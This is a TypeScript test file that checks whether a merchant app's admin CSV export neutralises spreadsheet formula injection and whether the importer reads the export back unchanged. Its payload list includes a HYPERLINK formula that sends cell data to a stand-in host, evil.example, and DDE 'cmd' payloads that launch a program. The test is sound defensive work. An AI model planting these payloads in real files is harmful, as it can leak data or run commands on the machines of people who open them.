/**
 * Abuse test: a self-registered merchant plants spreadsheet formulae in its shop; the admin's CSV
 * export carries none of them live (OWASP CSV injection), and the importer reads the export back
 * to exactly what the merchant wrote.
 */
import Papa from 'papaparse';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importFile } from '../../api/importer';
import { openSqliteStore } from '../../api/store/sqlite';
import { authEnv, send, shopBody, signInAdmin, signUp, type AuthEnv } from './auth-helpers';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  "'=already quoted",
];
let env: AuthEnv;
let admin: string;
beforeAll(async () => {
  env = await authEnv();
  const { cookie } = await signUp(env, 'evil@example.org');
  for (const [i, p] of PAYLOADS.entries()) {
    const r = await send(env, 'POST', '/api/my/merchants', { cookie, body: shopBody({ name: p, address: p, notes: p, lat: 32 + i / 100 }) });
    expect(r.status).toBe(201);
  }
  admin = (await signInAdmin(env)).cookie;
});
afterAll(() => env.close());

describe('admin CSV export against formula injection', () => {
  it('no text cell starts with = + - @ tab or CR; the import reads the export back unchanged', async () => {
    const res = await env.app.request('/api/admin/export?kind=merchants&format=csv', { headers: { Cookie: admin } });
    expect(res.status).toBe(200);
    const bytes = new Uint8Array(await res.arrayBuffer());
    const rows = Papa.parse<string[]>(new TextDecoder().decode(bytes).replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    const header = rows[0];
    const textColumns = ['name', 'address', 'notes'].map((k) => header.indexOf(k));
    for (const row of rows.slice(1)) for (const j of textColumns) expect(row[j]).not.toMatch(/^[=+\-@\t\r]/);
    const dir = mkdtempSync(join(tmpdir(), 'yizhan-formulae-'));
    const fresh = openSqliteStore(join(dir, 'fresh.db'));
    try {
      const result = await importFile(fresh, bytes, { kind: 'merchants', crs: 'wgs84', filename: 'm.csv' });
      expect(result.ok).toBe(true);
      const back = (await fresh.allMerchants()).map((m) => [m.name, m.address, m.notes]);
      expect(back.map((b) => b[0]).sort()).toEqual([...PAYLOADS].sort());
      for (const [name, address, notes] of back) expect([address, notes]).toEqual([name, name]);
    } finally {
      fresh.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
